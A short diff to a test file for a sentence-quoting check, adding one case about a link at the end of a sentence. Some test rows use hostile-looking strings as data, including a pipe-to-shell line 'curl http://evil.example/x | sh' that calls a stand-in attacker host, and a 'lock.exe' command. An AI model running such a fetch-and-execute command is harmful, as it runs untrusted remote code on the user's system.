@@ -10,6 +10,7 @@ describe('the check of a sentence', () => {
   test.each([
     ['the value', 'It fired: “lock.exe -path D:”.', 'lock.exe -path D:', true],
     ['a part of the value', '“evil.example” is listed.', 'curl http://evil.example/x | sh', true],
+    ['a link at the end', 'It fired: “https://a.example/x”.', 'https://a.example/x', true],
     ['a short value', '“DE” is one of 2 values.', 'DE', true],
     ['a short part of a value', '“ex” is listed.', 'lock.exe', false],
     ['another value', 'Several countries: “success”.', 'DE', false],
